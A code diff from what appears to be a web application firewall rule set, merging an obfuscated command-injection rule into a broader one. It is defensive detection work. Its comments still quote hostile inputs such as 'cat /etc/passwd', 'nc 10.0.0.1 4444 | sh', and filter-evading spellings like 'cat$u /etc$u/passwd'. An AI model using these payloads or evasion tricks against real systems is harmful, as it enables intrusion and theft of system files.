@@ -15,7 +15,7 @@ export const WAF_CATEGORIES = {
   'directory-traversal': { ids: [1001, 1003], title: 'Directory traversal' },
   'sql-injection': { ids: [1010, 1014], title: 'SQL injection' },
   'xss': { ids: [1020, 1025], title: 'XSS attacks' },
-  'command-injection': { ids: [1030, 1034], title: 'Command injection' },
+  'command-injection': { ids: [1030, 1033], title: 'Command injection' },
   'malicious-upload': { ids: [1040, 1042], title: 'Malicious file uploads' },
   'http-protocol': { ids: [1050, 1055], title: 'HTTP protocol attacks' },
   'rate-limiting': { ids: [1060, 1061], title: 'Rate limiting' },
@@ -168,13 +168,13 @@ const PUNCTUATION_ENTITIES = [
 ];
 
 /**
- * What a shell drops from a word (1034): a backslash, a quote, a caret, and a variable that is unset or empty
+ * What a shell drops from a word (1033): a backslash, a quote, a caret, and a variable that is unset or empty
  * ($@, $u, ${x}).
  */
 const SHELL_FILLER = String.raw`(?:\\|'|"|\^|\$@|\$\{\w{0,8}\}|\$[a-z_]\w{0,2}(?!\w))`;
 /** A word with shell filler allowed after each of its letters (c\\a\\t, ca""t, c$@at). */
 const obfuscated = (word: string) => [...word].map(escapeRegExp).join(`${SHELL_FILLER}*`);
-/** The commands and folders 1034 recognises when spelled with filler. */
+/** The commands and folders 1033 recognises when spelled with filler. */
 const OBFUSCATED_COMMANDS = ['cat', 'ls', 'id', 'whoami', 'uname', 'wget', 'curl', 'nc', 'bash', 'sh', 'python', 'perl', 'php', 'rm', 'chmod', 'ping', 'nslookup', 'sleep'];
 const SYSTEM_FOLDERS = ['etc', 'bin', 'usr', 'tmp', 'var', 'dev', 'proc', 'home', 'root', 'boot'];
 
@@ -508,35 +508,24 @@ function buildWafRules(config: FactoryConfig): readonly WafRule[] {
         arg: String.raw`\A[^\n]*?(?:[;&|]|\$\()\s*${BIN_DIR}(?:${MORE_SHELL_COMMANDS.join('|')})(?:\.exe)?${COMMAND_ARGUMENT}` +
           String.raw`|\A\s*${BIN_DIR}(?:${[...SHELL_COMMANDS, ...MORE_SHELL_COMMANDS].join('|')})(?:\.exe)?\s+(?:-{1,2}[a-zA-Z]|/[\w.-]|~/|\$\{?[A-Za-z_]|(?:https?|ftp)://|\d+(?:\.\d+){3}\b|[\w.-]+\s*(?:[|;&>]|\$\()|[\w.-]+\s+(?:/[\w.]|~/|-{1,2}[a-zA-Z]))` +
           String.raw`|\A\s*(?:whoami|uname|ifconfig|ipconfig|systeminfo|tasklist)(?:\.exe)?\s*$|\A\s*(?:sleep\s+\d+|ps\s+(?:aux|-ef))\s*$` +
-          String.raw`|\A\s*(?i:(?:type|dir|copy|del|more|findstr|icacls|attrib)\s+(?:[a-z]:[\\/]|%\w+%|\\\\|/[a-z]{1,2}\b)|net1?\s+(?:user|localgroup|group)\b)`,
+          String.raw`|\A\s*(?i:(?:type|dir|copy|del|more|findstr|icacls|attrib)\s+(?:[a-z]:[\\/]|%\w+%|\\\\|/[a-z]{1,2}\b)|net1?\s+(?:user|localgroup|group)\b)` +
+          // a command spelled with what a shell drops (c\a\t, c''url, cat$u), then a system folder or an option
+          String.raw`|[;&|]\s*(?:${OBFUSCATED_COMMANDS.map(obfuscated).join('|')})${SHELL_FILLER}*(?:\s|\$\{?IFS\}?)+` +
+          String.raw`(?:\\?/${SHELL_FILLER}*(?:${SYSTEM_FOLDERS.map(obfuscated).join('|')})(?![a-z])|-{1,2}[a-z])`,
       },
       transformations: ['urlDecodeUni'],
-      action: deny, message: 'Command injection: a value that is a command line, or a separator then a further command (outside API bodies)', severity: 'CRITICAL',
+      action: deny, message: 'Command injection: a value that is a command line, a separator then a further command, or a command spelled with quotes, backslashes or empty variables (outside API bodies)', severity: 'CRITICAL',
       tags: ['attack-rce', 'OWASP_CRS/WEB_ATTACK/COMMAND_INJECTION'],
       rationale: 'A parameter passed whole to a shell (cat /etc/passwd, wget http://…, ls -la, nc 10.0.0.1 4444 | sh, type C:\\boot.ini, whoami) starts with the command; ' +
         'English that starts with the same words goes on with a word ("echo in the mirror", "curl and divergence", "ls 300 lexus"). After a separator, the commands ' +
-        '1030 does not know (awk, sed, grep, xargs, find, ssh, sudo …), with the same argument shapes. Off for the arguments of ' +
+        '1030 does not know (awk, sed, grep, xargs, find, ssh, sudo …), with the same argument shapes. And a command spelled with what a shell ' +
+        'drops (backslashes, quotes, carets, unset variables: ; c\\a\\t \\/e\\t\\c/p\\a\\s\\swd, | c\x27\x27url -s, ; cat$u /etc$u/passwd), ' +
+        'which 1030 reads as written: that filler may follow each letter of a command and of a system folder, and a system folder ' +
+        '(/etc, /bin, /tmp …) or an option must follow the command, so prose after a semicolon ("cat/dog photos") passes. Off for the arguments of ' +
         'an API body, where a prompt may well open with a command line it asks about or pipe to grep in a one-line question.',
       outsideApiBodies: true,
     },
     // ---- 1040-1041 Malicious file uploads ----
-    {
-      id: 1034, category: 'command-injection', phase: 2,
-      variables: ['REQUEST_FILENAME', 'ARGS', 'REQUEST_COOKIES', ...suspectHeaders],
-      operator: {
-        op: 'rx',
-        arg: String.raw`[;&|]\s*(?:${OBFUSCATED_COMMANDS.map(obfuscated).join('|')})${SHELL_FILLER}*(?:\s|\$\{?IFS\}?)+` +
-          String.raw`(?:\\?/${SHELL_FILLER}*(?:${SYSTEM_FOLDERS.map(obfuscated).join('|')})(?![a-z])|-{1,2}[a-z])`,
-      },
-      transformations: ['urlDecodeUni'],
-      action: deny, message: 'Command injection: a separator then a command spelled with quotes, backslashes or empty variables (c\\a\\t, cat$u)', severity: 'CRITICAL',
-      tags: ['attack-rce', 'OWASP_CRS/WEB_ATTACK/COMMAND_INJECTION'],
-      rationale: 'A shell drops quotes, backslashes and unset variables, so ; c\\a\\t \\/\\e\\t\\c/p\\a\\s\\sw\\d, ;ca""t /etc/passwd and ; cat$u /etc$u/passwd run cat; ' +
-        '1030 reads the command as written. Here each letter of a command and of a system folder may be followed by such filler; a system ' +
-        'folder (/etc, /bin, /tmp …) or an option must follow the command: prose after a semicolon ("cat/dog photos") names no system folder. ' +
-        'Off for API bodies, where a prompt quotes shell lines.',
-      outsideApiBodies: true,
-    },
     {
       id: 1040, category: 'malicious-upload', phase: 2,
       variables: ['FILES', 'REQUEST_HEADERS:X-File-Name', 'REQUEST_HEADERS:X-Filename'],
